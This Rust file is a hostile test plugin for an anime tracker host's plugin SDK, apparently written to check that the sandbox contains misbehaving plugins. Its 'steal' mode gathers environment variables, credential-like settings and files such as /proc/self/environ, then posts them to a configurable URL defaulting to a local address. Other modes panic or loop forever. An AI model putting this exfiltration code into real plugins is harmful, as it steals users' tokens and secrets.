//! A tracker plugin for host tests; its `mode` setting picks what `pull` does:
//!
//! - `normal`: one entry (title `1` of `test-provider` in Watching);
//! - `steal`: tries every way to get at the account's token and send it out: an `authorized`
//!   request to `steal_url` (127.0.0.1 is declared but is no auth host), then everything it can
//!   read (environment, settings, files) posted there and logged;
//! - `trap`: panics (a trap in wasm);
//! - `loop`: spins forever (the host's deadline must stop it).
//!
//! Sign-in is by login and password (the token it hands over is `hostile-token-<login>-secret`),
//! or by a code pasted from a page (OAuth out-of-band, as Shikimori signs in): the page is
//! `authorize_url`, and the code goes as a form to `token_url`, which answers
//! `{"access_token": …}` or refuses with 400.

use getanime_provider_sdk::tracker::{
    Account, Entry, EpisodeMark, Input, ListStatus, PasteStep, SignInMethod, Step, Token, Tracker,
    TrackerError, store_token,
};
use getanime_provider_sdk::{Level, Method, http, log, setting, setting_or};

/// The tracker.
pub struct TestTracker;

fn account(login: &str) -> Account {
    Account { user_id: format!("id-{login}"), user_name: login.to_owned() }
}

/// Everything a plugin could try to read, in one text.
fn loot() -> String {
    let mut found = Vec::new();
    for (key, value) in std::env::vars() {
        found.push(format!("env {key}={value}"));
    }
    for key in
        ["mode", "steal_url", "token", "access", "authorization", "credentials", "client_secret"]
    {
        found.push(format!("setting {key}={:?}", setting(key)));
    }
    for path in
        ["credentials.json", "/credentials.json", "../credentials.json", "/proc/self/environ"]
    {
        found.push(format!("file {path}: {:?}", std::fs::read_to_string(path).ok()));
    }
    found.join("\n")
}

impl Tracker for TestTracker {
    fn methods() -> Vec<SignInMethod> {
        vec![SignInMethod::Password, SignInMethod::Paste]
    }

    fn start(method: SignInMethod, _device_id: String) -> Result<Step, TrackerError> {
        Ok(match method {
            SignInMethod::Paste => Step::OpenAndPaste(PasteStep {
                url: setting_or("authorize_url", "https://auth.invalid/oauth/authorize"),
                expires_in_s: Some(600),
                state: "paste".into(),
            }),
            _ => Step::AskLoginAndPassword(String::new()),
        })
    }

    fn advance(state: String, _device_id: String, input: Input) -> Result<Step, TrackerError> {
        match input {
            Input::LoginAndPassword((login, _password)) => {
                let access = format!("hostile-token-{login}-secret");
                store_token(&Token { access, refresh: None, expires_at: None });
                Ok(Step::Done(account(&login)))
            }
            Input::Text(code) => {
                let url = setting_or("token_url", "http://127.0.0.1:9/oauth/token");
                let body = format!("grant_type=authorization_code&code={code}");
                let headers = [("Content-Type", "application/x-www-form-urlencoded")];
                let response =
                    http::request(Method::Post, &url, &headers, Some(body.into_bytes()))?;
                if response.status == 400 || response.status == 401 {
                    // The page's code was mistyped: the same page, to type it again.
                    return Ok(Step::OpenAndPaste(PasteStep {
                        url: setting_or("authorize_url", "https://auth.invalid/oauth/authorize"),
                        expires_in_s: Some(600),
                        state,
                    }));
                }
                let answer: serde_json::Value = serde_json::from_slice(&response.body)
                    .map_err(|error| TrackerError::Parse(error.to_string()))?;
                let access = answer["access_token"].as_str().unwrap_or_default().to_owned();
                if access.is_empty() {
                    return Err(TrackerError::Parse("no access_token".into()));
                }
                store_token(&Token { access, refresh: None, expires_at: None });
                Ok(Step::Done(account("paster")))
            }
            Input::Poll => Err(TrackerError::Rejected("a code or a password, please".into())),
        }
    }

    fn sign_out() -> Result<(), TrackerError> {
        Ok(())
    }

    fn whoami() -> Result<Account, TrackerError> {
        Ok(account("whoever"))
    }

    fn pull() -> Result<Vec<Entry>, TrackerError> {
        match setting_or("mode", "normal").as_str() {
            "trap" => panic!("a trap in the middle of pull"),
            "loop" => loop {
                std::hint::black_box(0_u64);
            },
            "steal" => {
                let url = setting_or("steal_url", "http://127.0.0.1:9/");
                let with_token = format!("{url}with-token");
                http::request_authorized(Method::Get, &with_token, &[], None)?;
                let loot = loot();
                log(Level::Warn, &format!("loot: {loot}"));
                eprintln!("loot: {loot}");
                let to = format!("{url}loot");
                http::request(Method::Post, &to, &[], Some(loot.into_bytes()))?;
            }
            _ => {}
        }
        Ok(vec![Entry {
            external_id: "1".into(),
            status: Some(ListStatus::Watching),
            progress: None,
            score: None,
            favorite: None,
            remote_id: None,
            updated_at: None,
        }])
    }

    fn pull_marks(_since: Option<i64>) -> Result<Vec<EpisodeMark>, TrackerError> {
        Ok(Vec::new())
    }
}

getanime_provider_sdk::export_tracker!(TestTracker);
